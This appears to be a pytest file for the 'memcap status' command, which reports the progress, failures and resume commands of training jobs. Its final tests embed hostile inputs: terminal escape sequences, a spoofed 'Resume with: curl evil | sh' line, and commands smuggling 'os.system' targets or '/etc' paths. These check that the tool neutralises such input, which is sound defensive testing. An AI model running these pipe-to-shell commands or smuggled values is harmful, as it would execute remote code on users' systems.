"""`memcap status` in words and JSON."""

import json
import time
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from beat_files import MEMBER, first, put
from command import SMALL, files, memcap
from study_rows import group, write

pytestmark = pytest.mark.usefixtures("quick_file")

DAY = 86400.0  # in so long a time it does not matter how fast a test runs
COMMAND = "memcap train 'axes={seed: 9}'"


def test_a_study_in_training(tmp_path):
    write(tmp_path / "outputs" / "mine", group(counts={1: (2, 4)}, diverged=1))
    now = time.time()
    beat = first(
        started=now - 60,
        updated=now,
        folder=str(tmp_path),
        done=4,
        to_come=6,
        running=2,
        seconds_left=3 * DAY,
        longest=(MEMBER,),
        pid=1,
    )
    put(
        tmp_path / "outputs" / "mine",
        "a",
        replace(beat, host="elsewhere"),
        list("bcdefg"),
    )
    done = memcap(tmp_path, "status")
    assert (done.status, done.err) == (0, "")
    assert done.out.splitlines() == [
        "outputs/mine: 4 of 10 members done: 2 solved, 2 not (1 diverged); 0 failed.",
        "2 running, 4 waiting; 4 members per minute, about 3 days left.",
        "Job 1 on elsewhere: trains, for 60 seconds.",
        "Running",
        "key               member          step  budget  loss  trains     left",
        "0123456789abcdef  latch-L5-u1-s0   100   1,500   0.5  3 seconds",
        (
            "budget: most training steps; loss: mean loss over its last chunk; trains: time since"
            " it began; left: longest time left, at its speed so far."
        ),
        "1 of 2, those that have trained longest.",
    ]
    (found,) = json.loads(memcap(tmp_path, "status", "outputs/mine", "--json").out)
    assert found["members"] == 10
    assert (found["running"], found["waiting"], found["left"]) == (
        2,
        4,
        pytest.approx(3 * DAY, abs=60),
    )
    assert found["jobs"][0]["state"] == "trains, for 60 seconds"
    assert found["longest"][0]["key"] == MEMBER.key


def test_before_the_first_steps_it_says_so(tmp_path):
    put(tmp_path, "a", first(), ["a"])
    lines = memcap(tmp_path, "status", ".").out.splitlines()
    assert lines[0] == ".: 0 of 1 member done: 0 solved, 0 not; 0 failed."
    assert lines[1] == "0 running, 1 waiting; compiling, or in the first steps."
    put(tmp_path, "a", first(running=1), ["a"])
    assert (
        memcap(tmp_path, "status", ".").out.splitlines()[1] == "1 running, 0 waiting."
    )


def test_after_a_kill_it_says_when_and_what_goes_on(tmp_path):
    (row,) = group(counts={1: (0, 1)}, finished=datetime.now(UTC))
    failed = row | {
        "status": "failed",
        "reason": "two workers ended while they trained it",
    }
    write(tmp_path / "mine", [failed], group(counts={2: (1, 1)}))
    killed = first(
        updated=time.time() - 20 * DAY,
        host="elsewhere",
        pid=7,
        command=COMMAND,
        folder=str(tmp_path),
    )
    put(tmp_path / "mine", "a", killed, [row["key"], "b", "c"])
    done = memcap(tmp_path, "status", "mine")
    assert done.out.splitlines() == [
        "mine: 1 of 4 members done: 1 solved, 0 not; 1 failed.",
        "2 members unfinished: no running job trains them.",
        "Job 7 on elsewhere: no heartbeat for 20 days.",
        "Failed",
        "key               member          reason",
        f"{row['key']}  latch-L5-u1-s0  two workers ended while they trained it",
        f"Resume with: {COMMAND}",
    ]
    (tmp_path / "below").mkdir()
    assert (
        memcap(tmp_path / "below", "status", "../mine").out.splitlines()[-1]
        == f"Resume with: cd {tmp_path} && {COMMAND}"
    )
    put(
        tmp_path / "mine",
        "a",
        replace(killed, ended="interrupted", command=None),
        ["b"],
    )
    lines = memcap(tmp_path, "status", "mine").out.splitlines()
    assert "Job 7 on elsewhere: interrupted, 20 days ago." in lines
    assert lines[-1] == "Resume with: the same call of memcap.train, with this folder"


def test_of_a_finished_study_no_interrupted_job_is_listed(tmp_path):
    (row,) = group(counts={1: (1, 1)})
    write(tmp_path / "mine", [row])
    put(
        tmp_path / "mine",
        "a",
        first(ended="interrupted", command=COMMAND),
        [row["key"]],
    )
    assert memcap(tmp_path, "status", "mine").out.splitlines() == [
        "mine: 1 of 1 member done: 1 solved, 0 not; 0 failed.",
        "Then: memcap frontier mine",
    ]


def test_after_the_end_it_names_what_shows_it(tmp_path):
    for name in ("one", "two"):
        write(tmp_path / name, group(counts={1: (1, 1)}))
    before = files(tmp_path)
    done = memcap(tmp_path, "status", ".")
    assert done.out.splitlines() == [
        "one: 1 of 1 member done: 1 solved, 0 not; 0 failed.",
        "Then: memcap frontier one",
        "",
        "two: 1 of 1 member done: 1 solved, 0 not; 0 failed.",
        "Then: memcap frontier two",
    ]
    assert files(tmp_path) == before


@pytest.mark.breadth
def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
    words = ["axes={model.units: [1, 2], seed: 2}", *SMALL]
    assert memcap(tmp_path, "train", *words).status == 0
    (found,) = json.loads(memcap(tmp_path, "status", "--json").out)
    (job,) = found["jobs"]
    assert (found["done"], found["members"]) == (4, 4)
    assert (job["ended"], job["done"], job["to_come"]) == ("done", 4, 0)
    assert job[
        "command"
    ] == "memcap train 'axes={model.units: [1, 2], seed: 2}' " + " ".join(SMALL)
    kept = files(tmp_path / "outputs" / "adhoc" / "jobs")
    assert (
        memcap(tmp_path, "train", *words).status == 0
    )  # nothing is missing, and nothing is said
    assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept


def test_those_that_are_right_at_every_lag_are_counted_where_that_is_asked(tmp_path):
    write(
        tmp_path / "mine",
        group(counts={1: (3, 4)}, up_to={1: 2}, evaluation_until="up_to"),
    )
    first_line = memcap(tmp_path, "status", "mine").out.splitlines()[0]
    assert (
        first_line
        == "mine: 4 of 4 members done: 3 solved, 2 of them at every lag, 1 not; 0 failed."
    )


HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"


def test_what_strangers_wrote_steers_no_terminal(tmp_path):
    """Rows and jobs with escapes in every text that is printed: what they are is told,
    and no line is theirs."""
    failed = {"status": "failed", "reason": HOSTILE}
    rows = [row | failed for row in group(counts={1: (0, 1)})]
    write(tmp_path / "mine", rows, group(counts={2: (1, 2)}, recipe=f"a{HOSTILE}"))
    beat = first(
        host=HOSTILE,
        ended=HOSTILE,
        folder=HOSTILE,
        command=HOSTILE,
        longest=(replace(MEMBER, name=HOSTILE),),
    )
    put(tmp_path / "mine", "a", beat, ["b"])
    put(tmp_path / "mine", "c", replace(beat, ended=None, running=1), ["d"])
    (tmp_path / "mine" / "rows" / f"{HOSTILE.replace('/', '')}.parquet").write_bytes(
        b""
    )
    for words in ("status", "verify", "frontier", "collect", "report", "status --json"):
        done = memcap(tmp_path, *words.split(), "mine")
        assert "Traceback" not in done.err
        printed = (done.out + done.err).split("\n")
        assert all(line.isprintable() for line in printed), words
        assert not [line for line in printed if line.startswith("Resume with: curl")]


MARKED = "Resume with (its file says so; read it first, "
REFUSED = "Resume with the command that trained it; its file says none "


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("memcap train -m task=latch task.lag=1,2", "Resume with: "),
        ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
        ("memcap train task=evil:T", MARKED),
        ("memcap train --config-dir evil sweeps=x", MARKED),
        ("memcap train hydra.launcher._target_=os.system", MARKED),
        ("memcap train tracking=wandb", MARKED),
        ("memcap train task=latch out=.", "Resume with: "),
        ("memcap train task=latch out=/etc", MARKED),
        ("memcap train task=latch out=../etc", MARKED),
        ("memcap train x=1; curl evil | sh", REFUSED),
        ("memcap train 'a", REFUSED),
        ("curl evil", REFUSED),
    ],
)
def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
    put(
        tmp_path,
        "a",
        first(ended="interrupted", command=command, folder=str(tmp_path)),
        ["b"],
    )
    last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
    assert last.startswith(line)
    assert command in last.replace('"', "'")
